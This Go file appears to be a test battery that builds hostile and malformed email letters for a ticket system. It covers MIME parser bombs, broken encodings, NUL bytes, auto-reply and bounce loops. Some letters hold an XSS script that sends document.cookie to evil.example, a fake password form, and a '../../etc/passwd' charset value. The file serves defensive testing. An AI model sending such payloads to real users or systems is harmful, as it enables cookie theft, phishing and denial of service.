package main

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
)

// The letters of classes 6 and 7: MIME structure and framing, and
// automatic mail.

// mimeLetters are class 6: MIME structure built to exhaust a parser, and
// framing that is not RFC 5322 at all.
func mimeLetters() []hostileLetter {
	m := func(name string, d *draft) hostileLetter {
		addr := strings.TrimPrefix(name, "mime-") + "@mime.example.ru"
		d.set("From", "Отправитель <"+addr+">")
		return hostileLetter{name: name, class: classMIME, want: answerOnce, to: addr, raw: d.bytes()}
	}
	d := func(name string) *draft {
		return newDraft(name, "", "Письмо со странной структурой")
	}
	raw := func(name string, want answerWant, to string, b []byte) hostileLetter {
		return hostileLetter{name: name, class: classMIME, want: want, to: to, raw: b}
	}

	var parts strings.Builder
	for i := range 10000 {
		fmt.Fprintf(&parts, "--p\r\nContent-Type: text/plain\r\n\r\n%d\r\n", i)
	}
	parts.WriteString("--p--\r\n")

	var rfc822 strings.Builder // 50 letters, each the body of the one before
	for i := range 50 {
		fmt.Fprintf(&rfc822, "From: fwd%d@example.ru\r\nSubject: Fwd %d\r\nContent-Type: message/rfc822\r\n\r\n", i, i)
	}
	rfc822.WriteString("From: bottom@example.ru\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nПереслано 50 раз.\r\n")

	var rfc2231 strings.Builder
	rfc2231.WriteString("Content-Type: application/pdf\r\nContent-Disposition: attachment")
	for i := 4999; i >= 0; i-- { // continuations in reverse order
		if i == 0 {
			fmt.Fprintf(&rfc2231, ";\r\n filename*0*=utf-8''%%D0%%B0")
		} else {
			fmt.Fprintf(&rfc2231, ";\r\n filename*%d*=%%D0%%B0", i)
		}
	}
	rfc2231.WriteString("\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n")

	svg := "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100000\" height=\"100000\">" +
		strings.Repeat("<rect width=\"100000\" height=\"100000\" fill=\"red\"/>", 20000) + "</svg>"

	garbage := make([]byte, 4096)
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range garbage {
		garbage[i] = byte(rng.UintN(256))
	}

	plain := func(name string) *draft { // a letter without MIME fields
		return newDraft(name, "Отправитель <"+strings.TrimPrefix(name, "mime-")+"@mime.example.ru>", "Простое письмо").
			drop("MIME-Version").drop("Content-Type").drop("Content-Transfer-Encoding")
	}

	bareCR := plain("mime-bare-cr")
	bareCR.eol = "\r"
	bareLF := plain("mime-bare-lf")
	bareLF.eol = "\n"

	return []hostileLetter{
		m("mime-10000-parts", d("mime-10000-parts").set("Content-Type", "multipart/mixed; boundary=p").
			drop("Content-Transfer-Encoding").withBody(parts.String())),
		m("mime-nested-200", d("mime-nested-200").set("Content-Type", "multipart/mixed; boundary=top").
			drop("Content-Transfer-Encoding").withBody("--top\r\n"+nestedMultipart(200)+"--top--\r\n")),
		m("mime-rfc822-nested-50", d("mime-rfc822-nested-50").set("Content-Type", "message/rfc822").
			drop("Content-Transfer-Encoding").withBody(rfc822.String())),
		m("mime-missing-boundary", d("mime-missing-boundary").set("Content-Type", "multipart/mixed").
			drop("Content-Transfer-Encoding").
			withBody("--x\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"+citizenText("mime-missing-boundary")+"--x--\r\n")),
		m("mime-unclosed-boundary", d("mime-unclosed-boundary").set("Content-Type", "multipart/mixed; boundary=open").
			drop("Content-Transfer-Encoding").
			withBody("--open\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"+citizenText("mime-unclosed-boundary")+
				"--open\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n")),
		m("mime-base64-junk", d("mime-base64-junk").set("Content-Transfer-Encoding", "base64").
			withBody("!!!!@@@@####$$$$ это не base64 ====\r\nQUJD*&^%===QUJD\r\n====\r\n")),
		m("mime-qp-junk", d("mime-qp-junk").set("Content-Transfer-Encoding", "quoted-printable").
			withBody("=ZZ=XY=D0=\r\n=\r\n=D0=9F=D1=80=D0=B8=D0=B2=D0=B5=D1=82 =4\r\n=\r\n"+strings.Repeat("=", 100)+"\r\n=")),
		m("mime-content-length-50mb", d("mime-content-length-50mb").add("Content-Length", "52428800").
			multipart("cl", "Content-Type: application/pdf; name=\"big.pdf\"\r\nContent-Length: 52428800\r\n"+
				"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n")),
		m("mime-charset-x-unknown", d("mime-charset-x-unknown").set("Content-Type", "text/plain; charset=x-unknown").
			set("Subject", "=?x-unknown?Q?=C2=EE=EF=F0=EE=F1?=").withBody(cp1251(citizenText("mime-charset-x-unknown")))),
		m("mime-charset-utf-7", d("mime-charset-utf-7").set("Content-Type", "text/plain; charset=utf-7").
			set("Content-Transfer-Encoding", "7bit").set("Subject", "=?utf-7?Q?+BB8EQAQ4BDIENQRC-?=").
			withBody("+BBcENARABDAEMgRBBEIEMgRDBDkEQgQ1-!\r\n+AGEAbABlAHIAdAAoADEAKQ-\r\nmime-charset-utf-7\r\n")),
		m("mime-charset-empty-and-bogus", d("mime-charset-empty-and-bogus").
			set("Content-Type", "text/plain; charset=\"\"; charset=../../etc/passwd").
			set("Subject", "=?../../etc/passwd?B?0KLQtdC80LA=?=")),
		m("mime-rfc2231-5000-segments", d("mime-rfc2231-5000-segments").multipart("r", rfc2231.String())),
		m("mime-nul-in-header", d("mime-nul-in-header").set("Subject", "Нуль\x00в теме").add("X-Nul", "a\x00b\x00c")),
		m("mime-nul-in-body", d("mime-nul-in-body").withBody(citizenText("mime-nul-in-body")+"\x00\x00\x00 после нулей\r\n")),
		{name: "mime-bare-cr", class: classMIME, want: answerOnce, to: "bare-cr@mime.example.ru", raw: bareCR.bytes()},
		{name: "mime-bare-lf", class: classMIME, want: answerOnce, to: "bare-lf@mime.example.ru", raw: bareLF.bytes()},
		raw("mime-no-separator", answerOnce, "no-separator@mime.example.ru",
			[]byte("From: Отправитель <no-separator@mime.example.ru>\r\nSubject: Без пустой строки\r\n"+
				"X-Battery-Id: mime-no-separator\r\nЗдравствуйте, тело письма начинается сразу.\r\nНомер кабинета 4410021.\r\n")),
		raw("mime-header-only", answerOnce, "header-only@mime.example.ru",
			[]byte("From: Отправитель <header-only@mime.example.ru>\r\nSubject: Только заголовок\r\n"+
				"X-Battery-Id: mime-header-only\r\n")),
		raw("mime-one-byte", answerFailed, "", []byte("x")),
		raw("mime-binary-garbage", answerFailed, "", garbage),
		raw("mime-only-a-boundary", answerFailed, "", []byte("--boundary-mime-only-a-boundary--\r\n")),
		m("mime-tnef-winmail", d("mime-tnef-winmail").multipart("t",
			attachment("application/ms-tnef", "winmail.dat",
				append([]byte{0x78, 0x9f, 0x3e, 0x22, 0x01, 0x00, 0x01, 0x06, 0x90, 0x08, 0x00, 0x04, 0x00, 0x00},
					bytes.Repeat([]byte{0xff, 0x00, 0x10}, 300)...)))),
		m("mime-html-script", d("mime-html-script").set("Content-Type", "text/html; charset=utf-8").
			withBody("<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>"+
				"<body onload=\"alert(1)\"><p>Не могу войти.</p><img src=x onerror=alert(2)>"+
				"<iframe src=\"javascript:alert(3)\"></iframe>mime-html-script</body></html>\r\n")),
		m("mime-html-meta-refresh", d("mime-html-meta-refresh").set("Content-Type", "text/html; charset=utf-8").
			withBody("<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"+
				"<base href=\"https://evil.example/\"></head><body><form action=\"https://evil.example/\">"+
				"<input name=password type=password></form>mime-html-meta-refresh</body></html>\r\n")),
		m("mime-svg-1mb-inline", d("mime-svg-1mb-inline").multipart("s",
			"Content-Type: image/svg+xml\r\nContent-Disposition: inline; filename=\"a.svg\"\r\n"+
				"Content-ID: <svg@battery.test>\r\n\r\n"+svg+"\r\n")),
	}
}

// loopLetters are class 7: automatic mail, which must never be answered
// (RFC 3834), and our own letters coming back.
func loopLetters() []hostileLetter {
	never := func(name string, d *draft) hostileLetter {
		return hostileLetter{name: name, class: classLoop, want: answerNever, raw: d.bytes()}
	}
	report := "--rep\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThis is the mail system. Your message could not be delivered.\r\n" +
		"--rep\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.ru\r\n\r\n" +
		"Final-Recipient: rfc822; nobody@example.ru\r\nAction: failed\r\nStatus: 5.1.1\r\n" +
		"--rep\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <never-sent-by-us@ticketd.test>\r\n" +
		"From: " + ourAddress + "\r\nTo: nobody@example.ru\r\nSubject: [TKT-999999] ticket\r\n" +
		"--rep--\r\n"
	return []hostileLetter{
		never("loop-auto-replied", newDraft("loop-auto-replied", "Отпуск <vacation@example.ru>", "Re: Ваше обращение").
			add("Auto-Submitted", "auto-replied")),
		never("loop-auto-generated", newDraft("loop-auto-generated", "Робот <robot@example.ru>", "Уведомление").
			add("Auto-Submitted", "auto-generated; (robot)")),
		never("loop-precedence-bulk", newDraft("loop-precedence-bulk", "Рассылка <news@example.ru>", "Новости недели").
			add("Precedence", "bulk")),
		never("loop-bounce-unknown-id", newDraft("loop-bounce-unknown-id",
			"Mail Delivery System <MAILER-DAEMON@mx.example.ru>", "Undelivered Mail Returned to Sender").
			set("Content-Type", "multipart/report; report-type=delivery-status; boundary=rep").
			drop("Content-Transfer-Encoding").withBody(report)),
		never("loop-mailer-daemon", newDraft("loop-mailer-daemon", "MAILER-DAEMON@mx2.example.ru", "failure notice")),
		never("loop-own-address", newDraft("loop-own-address", "Служба поддержки <"+ourAddress+">", "[TKT-000001] Обращение")),
		never("loop-own-address-case", newDraft("loop-own-address-case", "<SUPPORT@TicketD.Test>", "Письмо себе")),
		never("loop-null-return-path", newDraft("loop-null-return-path", "Система <system@example.ru>", "Уведомление").
			prepend("Return-Path", "<>")),
		never("loop-vacation-subject", newDraft("loop-vacation-subject", "Коллега <colleague@example.ru>",
			"Автоответ: я в отпуске до понедельника")),
		// Automatic mail that is also too big for the parser's limits: the
		// signs of automatic mail must still be read.
		never("loop-auto-replied-300kb-header", newDraft("loop-auto-replied-300kb-header",
			"Отпуск <vacation.big@example.ru>", "Re: Ваше обращение").
			add("Auto-Submitted", "auto-replied").add("X-Long", strings.Repeat("z", 300<<10))),
		never("loop-auto-replied-after-1mb-subject", newDraft("loop-auto-replied-after-1mb-subject",
			"Отпуск <vacation.huge@example.ru>", "Re: "+strings.Repeat("тема ", 1<<20/9)).
			add("Auto-Submitted", "auto-replied")),
		never("loop-auto-replied-600-parts", newDraft("loop-auto-replied-600-parts",
			"Отпуск <vacation.parts@example.ru>", "Re: Ваше обращение").add("Auto-Submitted", "auto-replied").
			multipart("many", slices.Repeat([]string{"Content-Type: text/plain\r\n\r\nчасть"}, 600)...)),
		never("loop-precedence-bulk-nested-30", newDraft("loop-precedence-bulk-nested-30",
			"Рассылка <news.nested@example.ru>", "Дайджест").add("Precedence", "bulk").
			set("Content-Type", "multipart/mixed; boundary=top").drop("Content-Transfer-Encoding").
			withBody("--top\r\n"+nestedMultipart(30)+"--top--\r\n")),
	}
}

// nestedMultipart is an entity of multiparts nested depth deep around one
// line of text.
func nestedMultipart(depth int) string {
	var b strings.Builder
	for i := range depth {
		fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=n%d\r\n\r\n--n%d\r\n", i, i)
	}
	b.WriteString("Content-Type: text/plain; charset=utf-8\r\n\r\nНа самом дне.\r\n")
	for i := depth - 1; i >= 0; i-- {
		fmt.Fprintf(&b, "--n%d--\r\n", i)
	}
	return b.String()
}
